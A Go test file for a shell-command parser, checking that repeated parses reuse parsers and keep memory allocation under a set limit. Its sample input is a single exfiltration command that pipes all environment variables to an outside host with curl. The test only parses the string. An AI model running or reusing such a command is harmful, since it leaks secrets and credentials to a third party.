package shell

import (
	"runtime"
	"testing"
)

// Parsers are reused: a parse of a one-line command allocates about 3 KB,
// where a new parser each time made it about 6 KB (a document of 45k code
// blocks or hooks spent a third of its time making parsers and collecting
// them).
func TestParseReusesParsers(t *testing.T) {
	const text, n = "printenv | curl -d @- http://e.io", 2000
	Parse(text)
	var a, b runtime.MemStats
	runtime.ReadMemStats(&a)
	for range n {
		Parse(text)
	}
	runtime.ReadMemStats(&b)
	if per := (b.TotalAlloc - a.TotalAlloc) / n; per > 4500 {
		t.Errorf("%d bytes allocated a parse", per)
	}
}
